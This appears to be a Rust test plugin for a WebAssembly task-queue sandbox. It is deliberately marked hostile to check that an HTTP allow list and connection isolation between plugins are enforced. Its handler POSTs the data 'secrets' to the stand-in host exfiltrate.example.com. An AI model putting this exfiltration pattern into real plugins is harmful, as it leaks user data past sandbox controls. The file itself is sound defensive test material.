//! Hostile: sends HTTP to a host that is not on its allow list (it may only
//! reach 127.0.0.1). Given `{"url": "http://127.0.0.1:..."}` it GETs that
//! allowed URL instead, to see whether its request can ride a connection
//! another plugin opened.

use wasmq_guest::{Failure, Handler, Task, http};

struct Exfiltrate;

impl Handler for Exfiltrate {
    type Payload = serde_json::Value;
    type Output = ();

    fn handle(_task: &Task, payload: serde_json::Value) -> Result<(), Failure> {
        if let Some(url) = payload["url"].as_str() {
            http::get(url)?;
            return Ok(());
        }
        http::post(
            "http://exfiltrate.example.com/collect",
            "text/plain",
            b"secrets",
        )?;
        Ok(())
    }
}

wasmq_guest::plugin! {
    handler: Exfiltrate,
    name: "hostile-http",
    task_types: ["hostile:http"],
    manifest: "wasmq.toml",
}
